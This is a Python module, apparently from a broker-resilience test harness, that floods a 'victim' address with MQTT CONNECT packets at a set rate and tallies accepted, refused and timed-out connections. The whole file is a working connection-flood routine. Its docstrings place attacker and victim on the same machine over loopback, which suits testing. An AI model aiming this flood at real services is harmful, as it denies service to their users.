"""CONNECTs at a rate, by bare sockets: an attacker shares the machine with its victim, so it has to be cheap."""

import select
import socket
import time
from collections import Counter, OrderedDict
from contextlib import suppress
from secrets import token_hex
from threading import Event
from typing import Final

from trials.attacks import packets

_IMPATIENT_S: Final = 0.2
_MOST_AT_ONCE: Final = 50
"""CONNECTs that are sent at one time, at most. The others that are due then are left out."""
_PAUSE_S: Final = 0.002
_CONNACK_BYTES: Final = 4
_ACCEPTED: Final = b"\x20\x02\x00\x00"


class _Flood:
    """The state of one thread. A client is forgotten as soon as its socket has an answer or is closed."""

    def __init__(self, address: tuple[str, int], done: Counter[str]) -> None:
        self._address = address
        self._done = done
        self._poll = select.epoll()
        self._clients: OrderedDict[int, tuple[socket.socket, float]] = OrderedDict()
        """Clients with the time at which each gives up, the first one first."""

    def begin(self, now_s: float) -> None:
        """Connects another client. On loopback that succeeds at once, unless the victim accepts no connections."""
        client = socket.socket()
        client.setblocking(False)
        self._done["CONNECTs"] += 1
        try:
            with suppress(BlockingIOError):
                client.connect(self._address)
            client.send(packets.connect_clean(token_hex(8)))
        except OSError:
            self._done["closed"] += 1
            client.close()
            return
        self._poll.register(client.fileno(), select.EPOLLIN)
        self._clients[client.fileno()] = client, now_s + _IMPATIENT_S

    def look(self, now_s: float) -> None:
        """Reads answers, and closes the clients that have waited long enough."""
        for number, _ in self._poll.poll(0):
            client, _ = self._clients.pop(number)
            try:
                answer = client.recv(_CONNACK_BYTES)
            except OSError:
                answer = b""
            self._done["accepted" if answer == _ACCEPTED else "refused" if answer else "closed"] += 1
            client.close()
        while self._clients and (oldest := next(iter(self._clients.values())))[1] <= now_s:
            self._clients.popitem(last=False)
            self._done["gave up"] += 1
            oldest[0].close()

    def close(self) -> None:
        for client, _ in self._clients.values():
            client.close()
        self._poll.close()


def flood_with_connects(address: tuple[str, int], size: int, done: Counter[str], stop: Event) -> None:
    """Runs until `stop`. size: CONNECTs a second, each of another client."""
    flood, began_s, begun = _Flood(address, done), time.monotonic(), 0
    while not stop.wait(_PAUSE_S):
        now_s = time.monotonic()
        due = int((now_s - began_s) * size)
        for _ in range(min(due - begun, _MOST_AT_ONCE)):
            flood.begin(now_s)
        begun = due
        flood.look(now_s)
    flood.close()
